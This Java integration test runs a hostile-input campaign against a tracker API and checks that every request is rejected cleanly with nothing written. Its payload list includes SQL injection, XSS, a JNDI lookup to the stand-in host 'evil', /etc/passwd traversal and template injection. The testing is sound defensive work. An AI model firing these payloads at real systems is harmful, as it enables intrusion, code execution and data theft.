package org.tracker.infrastructure.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.tracker.testing.Api;
import org.tracker.testing.Fixtures;
import org.tracker.testing.TrackerIntegrationTest;

/**
 * A campaign of generated malformed and hostile requests — broken JSON, wrong types, huge strings,
 * deep nesting, SQL and script injection in every field and filter, invalid dates, unknown enum
 * values and actors, client-set {@code recordedBy}/{@code recordedAt}/{@code id} — each answered
 * 4xx as problem+json, none 5xx, and the event log unchanged afterwards. Then issue 19's ({@link
 * HostileProbes}), each answered as it must be, naming what is wrong; every request is counted.
 */
@TrackerIntegrationTest
class HostileInputIT {

  private static final List<String> INJECTIONS =
      List.of(
          "'; DROP TABLE domain_event_entry; --",
          "' OR '1'='1",
          "\" OR 1=1 --",
          "1; DELETE FROM fact",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "${jndi:ldap://evil/x}",
          "../../../../etc/passwd",
          "%00%0d%0a",
          "\u0000",
          "\u202e\u0645",
          "{{7*7}}");

  @LocalServerPort int port;
  @Autowired JdbcClient jdbc;

  /** One request of the campaign and what was wrong with it. */
  record Probe(String method, String path, String contentType, String body, String why) {}

  private long events() {
    return jdbc.sql("SELECT count(*) FROM domain_event_entry").query(Long.class).single();
  }

  private static String q(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private static String json(String value) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : value.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }

  private List<Probe> campaign(String development, String item, String a, String b, String doc) {
    List<Probe> probes = new ArrayList<>();
    String visit = visit(a, b, doc);
    List<String> writes =
        List.of(
            "/api/developments",
            "/api/developments/" + development + "/corrections",
            "/api/developments/" + development + "/retraction",
            "/api/watch-items",
            "/api/watch-items/" + item + "/evidence",
            "/api/watch-items/" + item + "/resolution",
            "/api/watch-items/" + item + "/drop",
            "/api/watch-items/" + item + "/reopening");
    List<String> broken =
        List.of(
            "",
            "{",
            "[",
            "null",
            "123",
            "\"text\"",
            "{\"type\":",
            "{\"type\":\"VISIT\",}",
            "{'type':'VISIT'}",
            "{\"type\":\"VISIT\"} trailing",
            "[".repeat(5000) + "]".repeat(5000),
            "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
            "\uFEFF{}",
            "{\"type\":\"VISIT\",\"type\":\"MEETING\"}");
    for (String path : writes) {
      for (String body : broken) {
        probes.add(new Probe("POST", path, "application/json", body, "broken JSON"));
      }
      probes.add(new Probe("POST", path, "text/plain", visit, "wrong content type"));
      probes.add(new Probe("POST", path, "application/xml", "<visit/>", "XML"));
      for (String injection : INJECTIONS) {
        probes.add(
            new Probe(
                "POST",
                path,
                "application/json",
                "{\"reason\":" + json(injection) + ",\"type\":" + json(injection) + "}",
                "injection where an enum belongs"));
      }
    }
    // a development: every field wrong in turn
    List<String[]> fieldFaults =
        List.of(
            new String[] {"\"type\":\"VISIT\"", "\"type\":123"},
            new String[] {"\"type\":\"VISIT\"", "\"type\":\"INVADED\""},
            new String[] {"\"type\":\"VISIT\"", "\"type\":null"},
            new String[] {"\"date\":\"2013-09\"", "\"date\":true"},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"2013-13\""},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"2013-02-30\""},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"13-09\""},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"２０１３\""},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"2013-09-12T00:00:00Z\""},
            new String[] {"\"date\":\"2013-09\"", "\"date\":\"99999\""},
            new String[] {"\"actors\":[", "\"actors\":\"CHN\",\"x\":["},
            new String[] {"\"actors\":[\"" + a + "\"", "\"actors\":[\"NOBODY-X\""},
            new String[] {"\"actors\":[\"" + a + "\"", "\"actors\":[123"},
            new String[] {"\"attributes\":{\"level\":\"STATE\"}", "\"attributes\":[]"},
            new String[] {"\"attributes\":{\"level\":\"STATE\"}", "\"attributes\":{\"level\":1}"},
            new String[] {
              "\"attributes\":{\"level\":\"STATE\"}", "\"attributes\":{\"level\":\"EMPEROR\"}"
            },
            new String[] {"\"summary\":{\"en\":\"x\"}", "\"summary\":5"},
            new String[] {"\"summary\":{\"en\":\"x\"}", "\"summary\":{\"fr_FR\":\"x\"}"},
            new String[] {"\"sources\":[", "\"sources\":{},\"y\":["},
            new String[] {"\"document\":\"" + doc + "\"", "\"document\":\"no-such-document\""},
            new String[] {"\"locator\":\"p. 1\"", "\"locator\":" + json("x".repeat(100_000))},
            new String[] {
              "\"summary\":{\"en\":\"x\"}", "\"summary\":{\"en\":" + json("x".repeat(200_000)) + "}"
            },
            new String[] {"{\"type\"", "{\"recordedBy\":\"admin\",\"type\""},
            new String[] {"{\"type\"", "{\"recordedAt\":\"2001-01-01T00:00:00Z\",\"type\""},
            new String[] {"{\"type\"", "{\"version\":7,\"type\""},
            new String[] {"{\"type\"", "{\"position\":1,\"type\""},
            new String[] {"{\"type\"", "{\"id\":\"not-a-uuid\",\"type\""},
            new String[] {"{\"type\"", "{\"id\":" + json(INJECTIONS.get(0)) + ",\"type\""});
    for (String[] fault : fieldFaults) {
      String body = visit.replace(fault[0], fault[1]);
      assertThat(body).as("fault applies: " + fault[1]).isNotEqualTo(visit);
      probes.add(new Probe("POST", "/api/developments", "application/json", body, fault[1]));
    }
    for (String injection : INJECTIONS) {
      for (String[] target :
          List.of(
              new String[] {"\"actors\":[\"" + a + "\"", "\"actors\":[" + json(injection)},
              new String[] {"\"date\":\"2013-09\"", "\"date\":" + json(injection)},
              new String[] {"\"document\":\"" + doc + "\"", "\"document\":" + json(injection)},
              new String[] {"\"level\":\"STATE\"", "\"level\":" + json(injection)})) {
        probes.add(
            new Probe(
                "POST",
                "/api/developments",
                "application/json",
                visit.replace(target[0], target[1]),
                "injection in " + target[0]));
      }
      // free text in an otherwise invalid request: stored nowhere
      probes.add(
          new Probe(
              "POST",
              "/api/developments",
              "application/json",
              visit
                  .replace(
                      "\"summary\":{\"en\":\"x\"}", "\"summary\":{\"en\":" + json(injection) + "}")
                  .replace("\"date\":\"2013-09\"", "\"date\":\"2013-00\""),
              "injection in free text of an invalid development"));
      // filters
      probes.add(
          new Probe("GET", "/api/timeline?actor=" + q(injection), null, null, "actor filter"));
      probes.add(new Probe("GET", "/api/timeline?type=" + q(injection), null, null, "type filter"));
      probes.add(new Probe("GET", "/api/timeline?from=" + q(injection), null, null, "from filter"));
      probes.add(new Probe("GET", "/api/relationships?actor=" + q(injection), null, null, "actor"));
      probes.add(
          new Probe(
              "GET",
              "/api/relationships?actor=" + a + "&kind=" + q(injection),
              null,
              null,
              "kind"));
      probes.add(
          new Probe(
              "GET",
              "/api/relationships/" + a + "/" + b + "?asOf=" + q(injection),
              null,
              null,
              "asOf"));
      probes.add(new Probe("GET", "/api/timeline?knownAt=" + q(injection), null, null, "knownAt"));
      probes.add(
          new Probe(
              "GET", "/api/audit/log?recordedBy=x&after=" + q(injection), null, null, "after"));
      probes.add(new Probe("GET", "/api/watch-items?status=" + q(injection), null, null, "status"));
    }
    // mass assignment in the other bodies
    for (String field :
        List.of(
            "\"recordedBy\":\"admin\"",
            "\"recordedAt\":\"2001-01-01T00:00:00Z\"",
            "\"id\":\"" + Fixtures.freshId() + "\"")) {
      probes.add(
          new Probe(
              "POST",
              "/api/developments/" + development + "/retraction",
              "application/json",
              "{\"reason\":\"r\"," + field + "}",
              "mass assignment " + field));
      probes.add(
          new Probe(
              "POST",
              "/api/watch-items/" + item + "/drop",
              "application/json",
              "{\"reason\":\"r\"," + field + "}",
              "mass assignment " + field));
    }
    // paging and sizes
    for (String query :
        List.of(
            "page=-1",
            "size=0",
            "size=100000",
            "size=abc",
            "page=99999999999999",
            "text=" + "x".repeat(5000))) {
      probes.add(new Probe("GET", "/api/timeline?" + query, null, null, query));
    }
    probes.add(new Probe("GET", "/api/audit/log?size=1000000", null, null, "audit page size"));
    probes.add(new Probe("GET", "/api/developments/not-a-uuid", null, null, "bad id"));
    probes.add(new Probe("GET", "/api/relationships/%3Cscript%3E/x", null, null, "path injection"));
    probes.add(new Probe("GET", "/api/projects/..%2F..%2Fetc", null, null, "path traversal"));
    probes.add(
        new Probe(
            "POST",
            "/api/developments",
            "application/json",
            "{\"summary\":" + json("x".repeat(1_500_000)) + "}",
            "body over the limit"));
    probes.add(
        new Probe("POST", "/api/import", "application/x-ndjson", "{not json\n[1]\n", "bad NDJSON"));
    return probes;
  }

  @Test
  void everyHostileRequestIsRefusedAsProblemJsonAndNothingIsWritten() {
    Api api = new Api(port);
    Fixtures fixtures = new Fixtures(api);
    String a = fixtures.actor();
    String b = fixtures.actor();
    String doc = fixtures.document();
    String development = fixtures.recordedPartnership(a, b, doc);
    String item = "watch-" + Fixtures.freshId().substring(0, 8);
    assertThat(api.post("/api/watch-items", watchItem(item, a, doc)).status()).isEqualTo(201);
    long before = events();

    List<Probe> probes = campaign(development, item, a, b, doc);
    List<String> wrong = new ArrayList<>();
    int requests = 0;
    int fiveXx = 0;
    for (Probe probe : probes) {
      Api.Response r = api.send(probe.method(), probe.path(), probe.contentType(), probe.body());
      requests++;
      fiveXx += r.status() >= 500 ? 1 : 0;
      boolean fourXx = r.status() >= 400 && r.status() < 500;
      if (!fourXx || !r.contentType().startsWith("application/problem+json")) {
        wrong.add(
            r.status()
                + " "
                + r.contentType()
                + " ← "
                + probe.why()
                + ": "
                + probe.method()
                + " "
                + probe.path());
      } else if (r.text().contains("Exception") || r.text().contains("\tat ")) {
        wrong.add("a stack trace or exception name leaked ← " + probe.why());
      }
    }

    List<HostileProbes.Expected> expected =
        HostileProbes.campaign(a, b, development, item, visit(a, b, doc), watchItem(item, a, doc));
    for (HostileProbes.Expected probe : expected) {
      Api as = probe.user() == null ? api.anonymous() : api.as(probe.user());
      Api.Response r =
          probe.body() == null
              ? as.send(probe.method(), probe.path(), probe.contentType(), (String) null)
              : as.send(probe.method(), probe.path(), probe.contentType(), probe.body());
      requests++;
      fiveXx += r.status() >= 500 ? 1 : 0;
      String answer = r.status() + " " + r.text() + " ← " + probe.why();
      if (r.status() != probe.status()) {
        wrong.add("expected " + probe.status() + ": " + answer);
      } else if (r.status() >= 400 && !r.contentType().startsWith("application/problem+json")) {
        wrong.add("not problem+json: " + answer);
      } else if (probe.names() != null && !r.text().contains(probe.names())) {
        wrong.add("does not name " + probe.names() + ": " + answer);
      } else if (probe.method().equals("HEAD") && !r.text().isEmpty()) {
        wrong.add("HEAD answered with a body: " + answer);
      }
    }
    System.out.printf("hostile-input campaign: %d requests, %d answered 5xx%n", requests, fiveXx);

    assertThat(probes).hasSizeGreaterThanOrEqualTo(300);
    assertThat(expected).hasSizeGreaterThanOrEqualTo(80);
    assertThat(wrong).isEmpty();
    assertThat(fiveXx).isZero();
    assertThat(events()).isEqualTo(before);
  }

  private static String visit(String a, String b, String doc) {
    return """
    {"type":"VISIT","date":"2013-09","actors":["%s","%s"],"attributes":{"level":"STATE"},\
    "summary":{"en":"x"},"sources":[{"document":"%s","locator":"p. 1"}]}\
    """
        .formatted(a, b, doc);
  }

  private static String watchItem(String item, String a, String doc) {
    return Fixtures.watchItem(item, "Q?", a, "VISIT", a, doc);
  }

  @Test
  void injectionInTheTextSearchIsSearchedForAsTextAndFindsNothing() {
    Api api = new Api(port).as("viewer");
    for (String injection : INJECTIONS) {
      Api.Response r = api.get("/api/timeline?text=" + q(injection));
      if (injection.contains("\u0000")) { // PostgreSQL cannot hold it: refused at the door
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.contentType()).startsWith("application/problem+json");
        continue;
      }
      assertThat(r.status()).as(injection).isEqualTo(200);
      assertThat(r.json().path("total").asLong()).as(injection).isZero();
    }
  }
}
